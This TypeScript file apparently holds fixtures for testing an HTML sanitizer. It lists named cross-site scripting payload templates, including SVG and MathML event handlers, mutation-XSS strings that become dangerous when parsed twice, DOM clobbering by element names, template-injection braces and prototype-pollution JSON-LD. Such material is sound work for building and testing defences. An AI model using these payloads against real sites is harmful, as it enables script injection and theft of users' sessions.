import type { Charge, Danger } from './hostileFile';
import type { MarkupAttack } from './markupAttacks';

type Row = readonly [name: string, danger: Danger, markup: (charge: Charge) => string];

const drawings: readonly Row[] = [
  ['drawing that loads', 'at once', ({ script }) => `<svg onload="${script}"><text>press here</text></svg>`],
  [
    'script in a drawing',
    'at once',
    ({ script }) => `<svg><script>${script}</script><text>press here</text></svg>`,
  ],
  [
    'script of a drawing by its address',
    'at once',
    ({ script }) => `<svg><script href="data:text/javascript,${script}"></script></svg>`,
  ],
  [
    'drawing whose link is set by an animation',
    'when touched',
    ({ script }) =>
      `<svg><a><animate attributeName="href" values="javascript:${script}"/><text x="20" y="20">press here</text></a></svg>`,
  ],
  [
    'drawing that begins an animation',
    'at once',
    ({ script }) =>
      `<svg><animate onbegin="${script}" attributeName="x" dur="1s"/><text>press here</text></svg>`,
  ],
  [
    'drawing that holds a page',
    'at once',
    ({ script }) =>
      `<svg><foreignObject width="9" height="9"><img src="x:" onerror="${script}"/></foreignObject></svg>`,
  ],
  [
    'drawing that uses another one',
    'at once',
    ({ far }) =>
      `<svg><use href="${far}/a.svg#b"/><image href="${far}/c.png"/><filter><feImage href="${far}/d.png"/></filter></svg>`,
  ],
  [
    'formula that leads away',
    'elsewhere',
    ({ script }) =>
      `<math href="javascript:${script}"><mi>press here</mi></math> <math><maction actiontype="statusline#x" xlink:href="javascript:${script}">x</maction></math>`,
  ],
];

/** Markup that is harmless when it is parsed once and dangerous when it is written out and parsed again. */
const twiceParsed: readonly Row[] = [
  [
    'formula, table and style',
    'elsewhere',
    ({ script }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${script}&gt;">press here`,
  ],
  [
    'drawing, paragraph and style',
    'elsewhere',
    ({ script }) => `<svg></p><style><a id="</style><img src=x: onerror=${script}>">press here`,
  ],
  [
    'style in a drawing in a formula',
    'elsewhere',
    ({ script }) =>
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=${script}>">press here`,
  ],
  [
    'title of a drawing',
    'elsewhere',
    ({ script }) =>
      `<svg><title><style><img id="</style></title><img src=x: onerror=${script}>"></style></title></svg>press here`,
  ],
  [
    'text for those without scripts',
    'elsewhere',
    ({ script }) =>
      `<noscript><p title="</noscript><img src=x: onerror=${script}>">press here</p></noscript>`,
  ],
  [
    'annotation of a formula as a page',
    'at once',
    ({ script }) =>
      `<math><annotation-xml encoding="text/html"><img src=x: onerror="${script}"></annotation-xml></math>`,
  ],
  [
    'character data in a drawing',
    'elsewhere',
    ({ script }) =>
      `<svg><desc><![CDATA[</desc><script>${script}</script>]]></desc></svg><![CDATA[<img src=x: onerror=${script}>]]>press here`,
  ],
  [
    'processing instruction',
    'elsewhere',
    ({ script }) =>
      `<?xml version="1.0"?><?xml-stylesheet href="javascript:${script}"?><? ><p>press here</p><?php echo "<script>${script}</script>" ?>`,
  ],
  [
    'markup spelt in entities, twice over',
    'elsewhere',
    ({ script }) =>
      `<p>&lt;script&gt;${script}&lt;/script&gt; &amp;lt;img src=x: onerror=${script}&amp;gt; press here</p>`,
  ],
  [
    'elements nested five thousand deep',
    'elsewhere',
    ({ script }) => `${'<div><b>'.repeat(2_500)}press here<img src=x: onerror=${script}>`,
  ],
];

/** What reaches for names of the page or of JavaScript rather than for a parser. */
const names: readonly Row[] = [
  [
    'elements named after what scripts use',
    'elsewhere',
    () =>
      `<form id="document" name="cookie"><input name="attributes"><input name="innerHTML"><input id="parentNode" name="nodeName"></form><img name="getElementById"><img name="body"><a id="assay" name="token" href="tel:1">press here</a><iframe name="self"></iframe>`,
  ],
  [
    'elements named after the parts of the window',
    'elsewhere',
    () =>
      `<div id="root" role="dialog" aria-label="Export" data-section="0" data-start="0" class="mantine-Modal-root">press here</div><p id="__proto__" data-start="-1" data-stroke="x">and here</p>`,
  ],
  [
    'braces of templates',
    'elsewhere',
    ({ script }) =>
      `<p ng-app>{{constructor.constructor('${script}')()}} \${${script}} <%= ${script} %> #{${script}} [[${script}]] press here</p>`,
  ],
  [
    'facts about the page with names of the prototype',
    'elsewhere',
    ({ script }) =>
      `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x: onerror=${script}>","__proto__":{"polluted":${script.length}},"constructor":{"prototype":{"polluted":1}},"author":{"name":"</script><img src=x: onerror=${script}>","__proto__":{"polluted":1}}}</script><meta name="__proto__" content="polluted"><meta property="og:title" content="&lt;img src=x: onerror=${script}&gt;"><meta name="author" content="&quot;&gt;&lt;script&gt;${script}&lt;/script&gt;"><p>press here</p>`,
  ],
  [
    'text whose direction is turned',
    'elsewhere',
    ({ script }) =>
      `<p>press here \u202e${script}\u202c \u2066x\u2069 \u200b\ufeff</p><bdo dir="rtl">abc</bdo>`,
  ],
];

/** Drawings and formulas, markup for a second parser, and names. */
export const parserAttacks: readonly MarkupAttack[] = [...drawings, ...twiceParsed, ...names].map(
  ([name, danger, markup]) => ({ name, danger, markup }),
);
